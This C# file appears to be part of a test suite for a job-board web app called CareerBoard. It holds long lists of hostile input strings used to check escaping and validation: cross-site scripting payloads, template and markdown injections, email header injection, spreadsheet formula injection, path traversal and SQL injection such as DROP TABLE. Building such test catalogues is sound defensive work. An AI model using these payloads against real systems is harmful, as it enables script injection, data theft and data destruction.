using System.Globalization;
using System.Text.Json;
using System.Text.RegularExpressions;
using CareerBoard.Data.Text;

namespace CareerBoard.Testing;

/// <summary>
/// What somebody writes who wants a page to run their script, ask their server, or break. Each carries a token of its own, so that it is known
/// again wherever it shows up: <c>r28x17x</c>, which is a class, an id, an attribute or an address where the text becomes one, and
/// <c>__hit(17)</c> where it becomes a script.
/// </summary>
public static partial class HostileStrings
{
    /// <summary>Another file of such strings, lists in a dictionary in JSON, for the long arm.</summary>
    public const string FileVariable = "CAREERBOARD_TEST_HOSTILE_STRINGS";

    /// <summary>Nothing on the board may ever be asked from there.</summary>
    public const string ForeignHost = "r28.example";

    private const string Number = "§";

    /// <summary>For texts of every kind.</summary>
    public static readonly IReadOnlyList<string> Texts =
    [
        // Scripts.
        "<script>__hit(§)</script>r28x§x",
        "<ScRiPt >__hit(§)</sCrIpT >r28x§x",
        "<script src=/r28x§x.js></script>",
        "<script src=//r28.example/r28x§x></script>",
        "<script type=module>__hit(§)</script>r28x§x",
        "<script/r28x§x>__hit(§)</script/>",
        "<script\n>__hit(§)</script\n>r28x§x",
        "<scr<script>ipt>__hit(§)</scr</script>ipt>r28x§x",
        "</script><script>__hit(§)//r28x§x</script>",
        "</title><script>__hit(§)</script>r28x§x",
        "</textarea><script>__hit(§)</script>r28x§x",
        "</style><img class=r28x§x src=/x onerror=__hit(§)>",
        "</noscript><img class=r28x§x src=/x onerror=__hit(§)>",
        "</select></datalist><svg class=r28x§x onload=__hit(§)>",
        "</template><img class=r28x§x src=/x onerror=__hit(§)>",
        "--><script>__hit(§)</script>r28x§x",
        "]]><script>__hit(§)</script>r28x§x",
        "<![CDATA[<script>__hit(§)</script>r28x§x]]>",
        "<!--<img class=r28x§x src=/x onerror=__hit(§)>-->",
        "<!--><img class=r28x§x src=/x onerror=__hit(§)>",
        "<!-- r28x§x -->",
        "<?php echo r28x§x ?>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>__hit(§)</x:script>r28x§x",

        // Elements that run something.
        "<img id=r28x§x src=x onerror=__hit(§)>",
        "<IMG CLASS=r28x§x SRC=/x ONERROR=__hit(§)>",
        "<img/class=r28x§x/src=/x/onerror=__hit(§)>",
        "<img class=r28x§x src=data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7 onload=__hit(§)>",
        "<body class=r28x§x onload=__hit(§)>",
        "<input class=r28x§x autofocus onfocus=__hit(§)>",
        "<select class=r28x§x autofocus onfocus=__hit(§)>",
        "<textarea class=r28x§x autofocus onfocus=__hit(§)>",
        "<button class=r28x§x autofocus onfocus=__hit(§)>x</button>",
        "<input class=r28x§x type=image src=/x onerror=__hit(§)>",
        "<details class=r28x§x open ontoggle=__hit(§)>",
        "<video class=r28x§x src=/x onerror=__hit(§)></video>",
        "<video class=r28x§x><source src=/x onerror=__hit(§)></video>",
        "<audio class=r28x§x src=/x onerror=__hit(§)>",
        "<marquee class=r28x§x onstart=__hit(§)>x</marquee>",
        "<object class=r28x§x data=/x onerror=__hit(§)></object>",
        "<embed class=r28x§x src=javascript:__hit(§)>",
        "<iframe class=r28x§x onload=__hit(§)></iframe>",
        "<iframe class=r28x§x srcdoc=\"<script>parent.__hit(§)</script>\"></iframe>",
        "<iframe class=r28x§x srcdoc=\"&lt;script&gt;parent.__hit(§)&lt;/script&gt;\"></iframe>",
        "<iframe class=r28x§x src=\"javascript:parent.__hit(§)\"></iframe>",
        "<frameset class=r28x§x onload=__hit(§)>",
        "<style class=r28x§x onload=__hit(§)>*{}</style>",
        "<link class=r28x§x rel=stylesheet href=/r28x§x.css onerror=__hit(§)>",
        "<p class=r28x§x onmouseover=__hit(§) style=position:fixed;inset:0>x",
        "<a class=r28x§x href=javascript:__hit(§)>r28</a>",
        "<a class=r28x§x href=\"jAvAsCrIpT&colon;__hit(§)\">r28</a>",
        "<a class=r28x§x href=\"java&Tab;script:__hit(§)\">r28</a>",
        "<form class=r28x§x action=javascript:__hit(§)><input type=submit></form>",
        "</form><form class=r28x§x action=//r28.example><button>x</button>",
        "<button class=r28x§x form=f formaction=javascript:__hit(§)>x</button>",
        "<r28x§x onfocus=__hit(§) tabindex=1 autofocus>",
        "<div class=r28x§x style=animation:a onanimationstart=__hit(§)>",
        "<dialog class=r28x§x open>x</dialog>",
        "<b class=r28x§x>",
        "<i id=r28x§x",
        "<template class=r28x§x><img src=/x onerror=__hit(§)></template>",
        "<xmp class=r28x§x><img src=/x onerror=__hit(§)></xmp>",
        "<plaintext class=r28x§x>",
        "<table class=r28x§x background=/x><td>x",

        // SVG and MathML, where HTML is parsed by other rules.
        "<svg class=r28x§x onload=__hit(§)>",
        "<svg/onload=__hit(§) class=r28x§x>",
        "<svg class=r28x§x><script>__hit(§)</script></svg>",
        "<svg class=r28x§x><animate onbegin=__hit(§) attributeName=x dur=1s>",
        "<svg class=r28x§x><a xlink:href=\"javascript:__hit(§)\"><text x=9 y=9>x</text></a></svg>",
        "<svg class=r28x§x><foreignObject><img src=/x onerror=__hit(§)></foreignObject></svg>",
        "<svg class=r28x§x><style><img src=/x onerror=__hit(§)></style></svg>",
        "<svg class=r28x§x></p><style><a id=\"</style><img src=/x onerror=__hit(§)>\">",
        "<svg class=r28x§x><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"/></svg>",
        "<math class=r28x§x><mtext><table><mglyph><style><img src=/x onerror=__hit(§)></style></mglyph></table></mtext></math>",
        "<math class=r28x§x><annotation-xml encoding=text/html><img src=/x onerror=__hit(§)></annotation-xml></math>",
        "<math class=r28x§x><a xlink:href=javascript:__hit(§)>x</a></math>",
        "<noscript><p title=\"</noscript><img class=r28x§x src=/x onerror=__hit(§)>\">",

        // Out of an attribute.
        "\"><img class=r28x§x src=/x onerror=__hit(§)>",
        "'><img class=r28x§x src=/x onerror=__hit(§)>",
        "`><img class=r28x§x src=/x onerror=__hit(§)>",
        "\\\"><img class=r28x§x src=/x onerror=__hit(§)>",
        "\"><script>__hit(§)</script>r28x§x",
        "\" autofocus onfocus=\"__hit(§)\" data-r28x§x=\"",
        "' autofocus onfocus='__hit(§)' data-r28x§x='",
        "x onfocus=__hit(§) autofocus r28x§x=y",
        "\" onmouseover=\"__hit(§)\" r28x§x=\"",
        "\"onload=\"__hit(§)\"r28x§x=\"",
        "\" style=\"animation-name:x\" onanimationstart=\"__hit(§)\" r28x§x=\"",
        "\" hx-get=\"/r28x§x\" hx-trigger=\"load",
        "<div class=r28x§x data-hx-get=/r28x§x data-hx-trigger=load>x</div>",
        "<div class=r28x§x hx-on:load=__hit(§)>x</div>",

        // Encoded once or oftener, for whoever decodes too much.
        "&quot;&gt;&lt;img class=r28x§x src=/x onerror=__hit(§)&gt;",
        "&lt;script&gt;__hit(§)&lt;/script&gt;r28x§x",
        "&#60;script&#62;__hit(§)&#60;/script&#62;r28x§x",
        "&#x3C;img class=r28x§x src=/x onerror=__hit(§)&#x3E;",
        "&amp;lt;img class=r28x§x src=/x onerror=__hit(§)&amp;gt;",
        "%3Cscript%3E__hit(§)%3C/script%3Er28x§x",
        "%253Cscript%253E__hit(§)%253C/script%253Er28x§x",
        "\\u003cscript\\u003e__hit(§)\\u003c/script\\u003er28x§x",
        "\\x3cscript\\x3e__hit(§)\\x3c/script\\x3er28x§x",
        "＜script＞__hit(§)＜/script＞r28x§x",
        "＜img class=r28x§x src=/x onerror=__hit(§)＞",
        "‹script›__hit(§)‹/script›r28x§x",
        "+ADw-script+AD4-__hit(§)+ADw-/script+AD4-r28x§x",
        "&r28x§x;&lt&gt&quot",

        // Out of a script or a JSON text.
        "';__hit(§);//r28x§x",
        "\";__hit(§);//r28x§x",
        "\\';__hit(§);//r28x§x",
        "'-__hit(§)-'r28x§x",
        "${__hit(§)}r28x§x",
        "`;__hit(§);`r28x§x",
        "*/__hit(§)/*r28x§x",
        "\"}]};__hit(§);//r28x§x",
        "\"}</script><script>__hit(§)</script>r28x§x",
        "\u2028__hit(§)\u2029r28x§x",
        "r28x§x\\",

        // Templates and formats.
        "{{7*7}}r28x§x",
        "{{constructor.constructor('__hit(§)')()}}r28x§x",
        "${7*7}#{7*7}r28x§x",
        "<%= 7*7 %>r28x§x",
        "@(7*7)@Model r28x§x",
        "@Html.Raw(\"<b class=r28x§x>\")",
        "{0} {1:x} {r28x§x}",
        "{r28x§x",
        "%s%n%1$x r28x§x",
        "$(id) `id` ; id | id & r28x§x",
        "[[${7*7}]]*{7*7}r28x§x",
        "$1 $& \\1 r28x§x",

        // Styles, and the document around.
        "<style>@import'//r28.example/r28x§x';</style>",
        "</style><style>*{background:url(/r28x§x)}</style>",
        "x;background:url(//r28.example/r28x§x)",
        "}*{display:none}/*r28x§x",
        "<meta http-equiv=refresh content=\"0;url=/r28x§x\">",
        "<meta class=r28x§x http-equiv=refresh content=\"0;url=//r28.example\">",
        "<base class=r28x§x href=//r28.example/>",
        "<meta class=r28x§x http-equiv=Content-Security-Policy content=\"default-src *\">",
        "<link class=r28x§x rel=prefetch href=//r28.example/>",
        "<link class=r28x§x rel=manifest href=/r28x§x>",
        "<img class=r28x§x src='//r28.example/?",
        "<a class=r28x§x href='//r28.example/?",
        "<div class=r28x§x",
        "</div></div></main></body></html>r28x§x",
        "<form id=main class=r28x§x><input name=action></form>",
        "<a id=__hit class=r28x§x>x</a>",
        "<img name=getElementById class=r28x§x>",

        // Markdown.
        "[r28x§x](javascript:__hit(§))",
        "[r28x§x](JaVaScRiPt:__hit(§))",
        "[r28x§x](java&#10;script:__hit(§))",
        "[r28x§x](&#106;avascript:__hit(§))",
        "[r28x§x](data:text/html,<script>opener.__hit(§)</script>)",
        "[r28x§x](vbscript:__hit(§))",
        "[r28x§x](//r28.example)",
        "[r28x§x](file:///etc/passwd)",
        "<javascript:__hit(§)>r28x§x",
        "![r28x§x](/x\"onerror=\"__hit(§))",
        "![r28x§x](//r28.example/x)",
        "[r28x§x]: javascript:__hit(§)\n\n[r28x§x]",
        "[r28x§x](https://r28.example/ \"\\\" onmouseover=\\\"__hit(§)\")",
        "[r28x§x](https://r28.example/\"onmouseover=\"__hit(§))",
        "[<img class=r28x§x src=/x onerror=__hit(§)>](https://r28.example/)",
        "`<img class=r28x§x src=/x onerror=__hit(§)>`",
        "```html\n<script>__hit(§)</script>r28x§x\n```",
        "```\"onload=\"__hit(§)\nr28x§x\n```",
        "    <script>__hit(§)</script>r28x§x",
        "|<img class=r28x§x src=/x onerror=__hit(§)>|\n|---|\n|x|",
        "# r28x§x {#r28x§x .r28x§x onclick=__hit(§)}",
        "> > > <script>__hit(§)</script>r28x§x",
        "<https://r28.example/\"onclick=\"__hit(§)>r28x§x",
        "[r28x§x](<javascript:__hit(§)> 'x')",
        ":::{.r28x§x onclick=__hit(§)}\nx\n:::",
        "<div class=r28x§x markdown=1>\n\n*x*\n\n</div>",
        "[^r28x§x]\n\n[^r28x§x]: <img src=/x onerror=__hit(§)>",
        "https://r28.example/\"onclick=\"__hit(§)//r28x§x",
        "www.r28.example/<script>__hit(§)</script>r28x§x",
        "**r28x§x<b class=r28x§x>**",
        new string('[', 150) + "r28x§x",
        new string('>', 150) + "r28x§x",
        new string('*', 150) + "r28x§x",

        // What one cannot see, and what takes room.
        "\u202Egnp.r28x§x\u202C",
        "\u2066\u202Er28x§x\u2069\u2069",
        "r28x§x\u200B\u200D\u2060\uFEFF",
        "<\u200Bscript>__hit(§)</script>r28x§x",
        "r28x§x\u0001\u0008\u001B[31m\u007F",
        "r28x§x\uFFFE\uFFFF\uFDD0",
        "r28x§x Z\u0337\u0321\u0352\u0349a\u0338\u0310l\u0335\u034Bg\u0336o",
        "r28x§x " + new string('\uFDFA', 30),
        "r28x§x" + new string('W', 180),
        "r28x§x\u00A0\u3000\u2003",
        "r28x§x 👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 İıſẞ",
        "r28x§x\t\v\f\u0085",

        // Mails.
        "r28x§x\r\nBcc: r28@r28.example",
        "r28x§x\nSubject: other\n\n<script>__hit(§)</script>",
        "\r\nX-R28: r28x§x",
        "r28x§x%0d%0aBcc:r28@r28.example",
        "=?utf-8?B?PHNjcmlwdD4=?= r28x§x",
        "\"r28x§x\" <r28@r28.example>, x",
        "r28x§x\u2028Bcc: r28@r28.example",
        "r28x§x\r\n.\r\nQUIT",
        "-- \r\nr28x§x",
        "r28x§x\nhttps://r28.example/\"onclick=\"__hit(§)",

        // Spreadsheets.
        "=HYPERLINK(\"//r28.example/\",\"r28x§x\")",
        "+1+cmd|' /C calc'!A0 r28x§x",
        "-2+3 r28x§x",
        "@SUM(1+1) r28x§x",
        "\t=1+1 r28x§x",
        "＝1+1 r28x§x",
        "\"=1+1 r28x§x",
        ";=1+1;r28x§x",
        "r28x§x\",\"=1+1\",\"",

        // Paths, names of files, queries.
        "../../../../etc/passwd r28x§x",
        "..\\..\\r28x§x",
        "//r28.example/r28x§x",
        "r28x§x.pdf\"; filename*=UTF-8''x.html",
        "CON r28x§x.",
        "'; DROP TABLE \"Postings\"; -- r28x§x",
        "' OR '1'='1 r28x§x",
        "%_[]^ r28x§x",
        "r28x§x* NEAR(\"a\" \"b\") AND -",
        "\" OR \"\"=\" r28x§x",
    ];

    /// <summary>Web addresses that the rules let through.</summary>
    public static readonly IReadOnlyList<string> Addresses =
    [
        "https://r28.example/r28x§x\"onmouseover=\"__hit(§)",
        "https://r28.example/'onmouseover='__hit(§)'r28x§x",
        "https://r28.example/><script>__hit(§)</script>r28x§x",
        "https://r28.example/</script><script>__hit(§)</script>r28x§x",
        "https://r28.example/?a=&quot;&gt;&lt;r28x§x",
        "HTTPS://r28.example/r28x§x#javascript:__hit(§)",
        "https://r28.example/%0d%0aX-R28:r28x§x",
        "https://r28.example/r28x§x\\\";__hit(§);//",
        "http://r28.example/`onerror=__hit(§)`r28x§x",
        "https://r28.example/{{7*7}}r28x§x",
        "https://r28.example/r28x§x)onclick=__hit(§)",
        "https://r28.example/=HYPERLINK(r28x§x)",
        "https://[::1]/r28x§x",
    ];

    /// <summary>What no field for an address may take, because whoever follows it runs it, or is led elsewhere than it says.</summary>
    public static readonly IReadOnlyList<string> NoAddresses =
    [
        "javascript:__hit(§)//r28x§x", "JaVaScRiPt:__hit(§)//r28x§x", "java\tscript:__hit(§)//r28x§x", "\u0001javascript:__hit(§)//r28x§x", " javascript:__hit(§)//r28x§x",
        "javascript://r28.example/%0a__hit(§)//r28x§x", "data:text/html,<script>__hit(§)</script>r28x§x", "vbscript:__hit(§)'r28x§x", "blob:https://r28.example/r28x§x",
        "file:///etc/r28x§x", "view-source:https://r28.example/r28x§x", "//r28.example/r28x§x", "/r28x§x", "https://board@r28.example/r28x§x", "https:r28x§x", "https://r28.example/\u202Er28x§x",
    ];

    /// <summary>Mail addresses that the rules let through.</summary>
    public static readonly IReadOnlyList<string> MailAddresses =
    [
        "r28x§x'onx='1@r28.example", "r28x§x`id`@r28.example", "=r28x§x+1@r28.example", "+r28x§x|cmd@r28.example", "{{7*7}}r28x§x@r28.example", "r28x§x/x@r28.example",
        "%0d%0abcc=r28x§x@r28.example", "r28x§x&amp@r28.example", "$" + "{7*7}r28x§x@r28.example", "?r28x§x#x@r28.example",
    ];

    /// <summary>What no form takes.</summary>
    public static readonly IReadOnlyList<string> NeverStored = ["r28\0x", "\0", "r28\uD800x", "\uDC00r28"];

    /// <summary>The strings of <see cref="FileVariable"/>, or none.</summary>
    public static IReadOnlyList<string> OfFile()
    {
        if (Environment.GetEnvironmentVariable(FileVariable) is not { Length: > 0 } file) return [];
        var lists = JsonSerializer.Deserialize<Dictionary<string, string[]>>(File.ReadAllText(file)) ?? [];
        return [.. lists.Values.SelectMany(strings => strings).Where(one => one.Length > 0 && WellFormed.IsStorable(one)).Distinct(StringComparer.Ordinal)];
    }

    /// <summary>Gives a string its token; at its end where it has no place for one, because names on a board differ.</summary>
    public static string With(string text, int number) => text.Contains(Number, StringComparison.Ordinal)
        ? text.Replace(Number, number.ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal)
        : $"{text} {Token(number)}";

    /// <summary>The number that a string was given.</summary>
    public static int NumberIn(string text) => int.Parse(Tokens().Match(text).Groups[1].ValueSpan, NumberStyles.None, CultureInfo.InvariantCulture);

    /// <summary>The token itself, as it is found in a page.</summary>
    public static string Token(int number) => string.Create(CultureInfo.InvariantCulture, $"r28x{number}x");

    [GeneratedRegex("r28x([0-9]+)x", RegexOptions.NonBacktracking)]
    private static partial Regex Tokens();
}
